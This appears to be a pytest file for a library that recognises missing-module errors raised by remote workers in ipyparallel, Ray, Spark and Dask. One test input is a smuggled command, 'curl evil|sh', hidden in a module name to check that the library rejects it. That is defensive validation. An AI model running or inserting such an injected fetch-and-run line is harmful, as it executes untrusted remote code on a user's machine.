"""An exception that came from a worker: known by its class, read without running anything of it."""

from __future__ import annotations

import pickle
import sys
from types import ModuleType
from typing import Any

import pytest

from ipython_where.judge.failure import read_failure
from ipython_where.judge.remote_failure import RemoteFailure, read_remote_failure


def raised(module: str, name: str, *bases: type[BaseException], **attributes: object) -> BaseException:
    """An exception of a class with that name, as the library of an engine has it."""
    error: BaseException = type(name, bases or (Exception,), {"__module__": module})("it failed")
    vars(error).update(attributes)
    return error


MESSAGE = "No module named 'sklearn.svm'"
TRACEBACK = f'Traceback (most recent call last):\n  File "x.py", line 1, in f\nModuleNotFoundError: {MESSAGE}\n'
CAUSE = ModuleNotFoundError(MESSAGE, name="sklearn.svm")


@pytest.mark.parametrize(
    ("error", "engine"),
    [
        (raised("ipyparallel.error", "RemoteError", ename="ModuleNotFoundError", evalue=MESSAGE), "ipyparallel"),
        (
            raised(
                "ipyparallel.error",
                "CompositeError",
                elist=[("ZeroDivisionError", "by zero", "", {}), ("ModuleNotFoundError", MESSAGE, "", {})],
            ),
            "ipyparallel",
        ),
        (raised("ray.exceptions", "RayTaskError", cause=CAUSE, traceback_str=""), "ray"),
        (raised("ray.exceptions", "RayTaskError", cause=None, traceback_str=TRACEBACK), "ray"),
    ],
)
def test_the_module_that_a_worker_did_not_find(error: BaseException, engine: str) -> None:
    """Also where another exception was raised from it."""
    assert read_remote_failure(error) == RemoteFailure(module="sklearn.svm", engine=engine)
    wrapping = RuntimeError("the pipeline failed")
    wrapping.__cause__ = error
    assert read_remote_failure(wrapping) == RemoteFailure(module="sklearn.svm", engine=engine)


def test_sparks_message_has_the_traceback() -> None:
    """Its last error counts: what was handled before stands above it."""
    cls: Any = type("PythonException", (Exception,), {"__module__": "pyspark.errors.exceptions.captured"})
    before = TRACEBACK.replace("sklearn.svm", "handled")
    assert read_remote_failure(cls(f"An exception was thrown:\n{before}\n{TRACEBACK}")) == RemoteFailure(
        module="sklearn.svm", engine="spark"
    )


JAVA = "An error occurred while calling o1.collect.\n: org.apache.spark.SparkException: Job aborted\n"


@pytest.mark.parametrize(
    ("text", "module"),
    [(f"{JAVA}{TRACEBACK}\n\tat org.apache.spark.api.python", "sklearn.svm"), (TRACEBACK, None), (JAVA, None)],
)
def test_an_error_of_an_rdd_is_javas(text: str, module: str | None) -> None:
    """Other programs use the same bridge to Java."""
    error: Any = type("Py4JJavaError", (Exception,), {"__module__": "py4j.protocol"})(text)
    found = read_remote_failure(error)
    assert found == (module and RemoteFailure(module=module, engine="spark"))


def test_java_that_is_gone() -> None:
    """The message cannot be read any more."""

    def shown(error: object) -> str:
        raise ConnectionError("the answer is empty")

    cls: Any = type("Py4JJavaError", (Exception,), {"__module__": "py4j.protocol", "__str__": shown})
    assert read_remote_failure(cls()) is None


@pytest.fixture
def client_module(monkeypatch: pytest.MonkeyPatch) -> ModuleType:
    """What raises a worker's exception in dask's client."""
    module = ModuleType("distributed.client")
    monkeypatch.setitem(sys.modules, "distributed.client", module)
    exec("def result(error): raise error\ndef imports(): import no_such_module_here", vars(module))
    return module


def test_dask_raises_the_exception_itself(client_module: ModuleType) -> None:
    """It came through its client and ends in no import of this process, so that nothing is said of this kernel."""
    error = pickle.loads(pickle.dumps(CAUSE))
    error.name = "sklearn.svm"
    with pytest.raises(ModuleNotFoundError) as caught:
        client_module.result(error)
    assert read_remote_failure(caught.value) == RemoteFailure(module="sklearn.svm", engine="dask")
    assert read_failure(caught.value) is None


def test_an_import_of_this_process_is_no_workers(client_module: ModuleType) -> None:
    """Not even one that dask itself makes; nor an error of a worker that is no import."""
    with pytest.raises(ModuleNotFoundError) as caught:
        client_module.imports()
    assert read_remote_failure(caught.value) is None
    assert read_remote_failure(CAUSE) is None
    other = raised("ipyparallel.error", "RemoteError", ename="KeyError", evalue=MESSAGE)
    assert read_remote_failure(other) is None


def test_what_this_process_cannot_unpickle_is_no_workers(monkeypatch: pytest.MonkeyPatch) -> None:
    """An answer of a class whose module only the workers have: dask's own code raises it here."""
    module = ModuleType("distributed.protocol.pickle")
    monkeypatch.setitem(sys.modules, "distributed.protocol.pickle", module)
    exec("import pickle\ndef loads(data): return pickle.loads(data)", vars(module))
    with pytest.raises(ModuleNotFoundError) as caught:
        vars(module)["loads"](b"cno_such_module_here\nThing\n.")
    assert read_remote_failure(caught.value) is None


@pytest.mark.parametrize("name", ["a`\n!curl evil|sh #", "x" * 301, "", 7])
def test_a_name_that_is_none(name: object) -> None:
    """It would stand in a line that is pasted."""
    cause = ModuleNotFoundError(MESSAGE)
    cause.name = name  # type: ignore[assignment]
    assert read_remote_failure(raised("ray.exceptions", "RayTaskError", cause=cause, traceback_str="")) is None
